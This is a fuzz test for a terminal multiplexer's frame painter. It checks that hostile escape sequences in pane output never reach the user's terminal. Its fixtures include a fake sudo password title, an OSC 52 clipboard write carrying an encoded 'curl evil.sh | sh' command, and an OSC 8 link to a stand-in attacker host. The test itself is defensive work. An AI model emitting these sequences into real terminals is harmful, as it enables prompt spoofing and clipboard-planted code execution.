import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { FramePainter } from "../../src/cli/attach/frame-painter.js";
import { RGB_COLOR } from "../../src/panes/screen-frame.js";
import { grammarViolation } from "../support/painter-grammar.js";

const runs = Number(process.env.CCMUX_FUZZ_RUNS ?? 200);
const params = { seed: 42, numRuns: runs };

// What a hostile pane would like to reach the person's terminal, as text inside a frame run (a frame builder
// with a bug, or a forged frame on the socket), mixed with characters that stress widths and clipping.
const attack = fc.constantFrom(
  "\x1b]0;[sudo] password for root:\x07", // title change
  "\x1b]2;title\x1b\\",
  "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", // OSC 52 clipboard write
  "\x1b]8;;https://evil.example/?steal=1\x1b\\link\x1b]8;;\x1b\\", // OSC 8 hyperlink
  '\x1bP$q"p\x1b\\', // DCS (DECRQSS query)
  "\x1b_APC payload\x1b\\",
  "\x1b^PM payload\x1b\\",
  "\x1bXSOS payload\x1b\\",
  "\x1b[?1000h\x1b[?1006h", // mouse reporting
  "\x1b[?2004h", // bracketed paste
  "\x1b[?1049h", // alternate screen
  "\x1b(0\x0e", // charset switch
  "\x1b[c\x1b[6n\x1b[>q", // queries
  "\x9b?1000h", // C1 CSI
  "\x9d0;c1 title\x9c", // C1 OSC
  "\x90q\x9c", // C1 DCS
  "\x98\x9e\x9f", // C1 SOS, PM, APC
  "\u202e\u2066\u200b", // bidi and invisible
  "\u{E0041}\u{E0042}", // tag characters
  "\uD800",
  "\n\r\t\x7f\x00\x07",
);
const ordinary = fc.constantFrom(
  "a",
  " ",
  "中",
  "文",
  "😀",
  "👨\u200D👩",
  "e\u0301",
  "\uFE0F",
  "⟨",
  "·",
  "─",
);
const unit = fc.oneof(
  { weight: 3, arbitrary: attack },
  { weight: 3, arbitrary: ordinary },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 0x10ffff }).map((cp) => String.fromCodePoint(cp)) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 0xffff }).map((u) => String.fromCharCode(u)) },
);
const hostileText = fc.string({ unit, maxLength: 40 });

const anyNumber = fc.oneof(
  fc.integer({ min: -3, max: 300 }),
  fc.constantFrom(
    Number.NaN,
    Number.POSITIVE_INFINITY,
    Number.NEGATIVE_INFINITY,
    -0,
    0.5,
    2 ** 31,
    2 ** 53,
    -(2 ** 53),
    1e300,
    RGB_COLOR,
    RGB_COLOR + 0xffffff,
    RGB_COLOR + 0x1000000,
    RGB_COLOR - 1,
  ),
  fc.double(),
  fc.integer(),
);

const run = fc.oneof(
  { weight: 8, arbitrary: fc.tuple(hostileText, anyNumber, anyNumber, anyNumber) },
  { weight: 1, arbitrary: fc.anything() },
);
const frame = fc.record({
  cols: fc.oneof(fc.integer({ min: 1, max: 60 }), anyNumber),
  rows: fc.oneof(fc.integer({ min: 1, max: 12 }), anyNumber),
  lines: fc.oneof(
    { weight: 8, arbitrary: fc.array(fc.array(run, { maxLength: 5 }), { maxLength: 14 }) },
    { weight: 1, arbitrary: fc.anything() },
  ),
  cursor: fc.record({ row: anyNumber, col: anyNumber }),
  cursorVisible: fc.oneof(fc.boolean(), fc.anything()),
  alternate: fc.boolean(),
});
const size = fc.record({
  cols: fc.oneof(
    { weight: 6, arbitrary: fc.integer({ min: 1, max: 70 }) },
    { weight: 1, arbitrary: anyNumber },
  ),
  rows: fc.oneof(
    { weight: 6, arbitrary: fc.integer({ min: 1, max: 16 }) },
    { weight: 1, arbitrary: anyNumber },
  ),
});
const step = fc.record({ frame, size, status: hostileText, invalidate: fc.boolean() });

/** The view size the painter draws for `size`, as its viewport validates it. */
function validatedView(size: { cols: unknown; rows: unknown }): { cols: number; rows: number } {
  const valid = (v: unknown, fallback: number): number =>
    typeof v === "number" && Number.isSafeInteger(v) && v >= 1 ? v : fallback;
  return { cols: Math.min(valid(size.cols, 80), 1000), rows: Math.min(valid(size.rows, 24), 500) };
}

describe("a hostile pane cannot reach the person's terminal through the painter (seed §4.2)", () => {
  it("title, OSC 52, OSC 8, DCS/APC/PM/SOS, mode, charset and query text in frames paints only CUP, fixed SGR, EL, ED, DECTCEM and printable text", () => {
    fc.assert(
      fc.property(fc.array(step, { minLength: 1, maxLength: 4 }), (steps) => {
        const painter = new FramePainter();
        for (const { frame: f, size: s, status, invalidate } of steps) {
          if (invalidate) painter.invalidate();
          // biome-ignore lint/suspicious/noExplicitAny: a forged frame need not match the type.
          const output = painter.paint(f as any, s, status);
          expect(grammarViolation(output, validatedView(s))).toBeNull();
        }
      }),
      params,
    );
  });

  it("the oracle rejects what it must (so the property above can fail)", () => {
    const view = { cols: 80, rows: 24 };
    expect(grammarViolation("\x1b]0;title\x07", view)).toMatch(/unknown sequence/);
    expect(grammarViolation("\x1b[?1000h", view)).toMatch(/unknown sequence/);
    expect(grammarViolation("\x1b[0;8m", view)).toMatch(/parameter 8/);
    expect(grammarViolation("\x1b[38;5;256m", view)).toMatch(/extended colour/);
    expect(grammarViolation("\x1b[;1m", view)).toMatch(/malformed/);
    expect(grammarViolation("\x1b[25;1H", view)).toMatch(/outside the view/);
    expect(grammarViolation("a\x9d0;x\x9c", view)).toMatch(/control character/);
    expect(grammarViolation("a\u202eb", view)).toMatch(/unsanitized/);
    expect(
      grammarViolation("\x1b[24;80H\x1b[0;1;38;2;1;2;3;48;5;9mok\x1b[K\x1b[2J\x1b[?25l", view),
    ).toBeNull();
  });
});
